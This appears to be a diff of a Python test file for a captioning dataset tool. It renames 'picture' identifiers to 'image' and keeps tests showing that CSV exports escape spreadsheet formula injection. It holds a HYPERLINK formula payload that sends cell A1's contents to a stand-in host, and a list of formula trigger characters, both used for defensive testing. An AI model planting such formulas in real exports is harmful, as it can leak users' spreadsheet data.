@@ -15,10 +15,10 @@ from core.data.derived.cleaned import save_without
 from core.data.derived.noisy import write_noisy
 from core.data.sources.opening import open_source
 from core.evaluation.noise import RankedPair, to_csv
-from core.spec.caption_files import Candidate, CaptionedPicture, CaptionFileError, CaptionTable, write_new
+from core.spec.caption_files import Candidate, CaptionedImage, CaptionFileError, CaptionTable, write_new
 from core.spec.cells import marked, marked_row, unmarked
 from core.spec.files import write_whole
-from tests.core.pictures import write_pairs
+from tests.core.images import write_pairs
 
 LINK = '=HYPERLINK("http://example.org?"&A1,"a cat")'
 FIRST = "=+-@\t\r"
@@ -37,8 +37,8 @@ def test_numbers_are_not_marked() -> None:
 @pytest.mark.parametrize("caption", [LINK, "+1", "-a dash", "@home", "'=quoted", "'tis a cat", "''=twice"])
 def test_a_caption_table_is_no_program_and_comes_back_as_it_was(caption: str, tmp_path: Path) -> None:
     train, _ = write_pairs(tmp_path)
-    picture = open_source(train).rows[0].file
-    captioned = CaptionedPicture(picture, [Candidate(caption, -1.5, -0.25)], {"model": "=model"})
+    image = open_source(train).rows[0].file
+    captioned = CaptionedImage(image, [Candidate(caption, -1.5, -0.25)], {"model": "=model"})
     with CaptionTable(tmp_path / "table.csv") as table:
         table.write(captioned)
     with (tmp_path / "table.csv").open(newline="") as file:
@@ -47,7 +47,7 @@ def test_a_caption_table_is_no_program_and_comes_back_as_it_was(caption: str, tm
     assert (row["model"], row["log_prob"]) == ("'=model", "-1.5")
     again = open_source(tmp_path / "table.csv").rows[0]
     assert again.captions == (caption,)
-    assert again.file == picture
+    assert again.file == image
     assert again.labels["model"] == "=model"
 
 
@@ -67,7 +67,7 @@ def test_other_tables_of_pairs_are_no_programs_either(tmp_path: Path) -> None:
         rows = open_source(tmp_path / f"{name}.csv").rows
         assert {caption for row in rows for caption in row.captions} <= {row.captions[0] for row in given_}
         assert {row.labels["+kind"] for row in rows} == {"@home"}
-    pair = RankedPair(0, "/pictures/=x.png", LINK, 0.5, 0.5, 1, None)
+    pair = RankedPair(0, "/images/=x.png", LINK, 0.5, 0.5, 1, None)
     assert next(iter(csv.DictReader(io.StringIO(to_csv([pair])))))["title"] == f"'{LINK}"
 
 
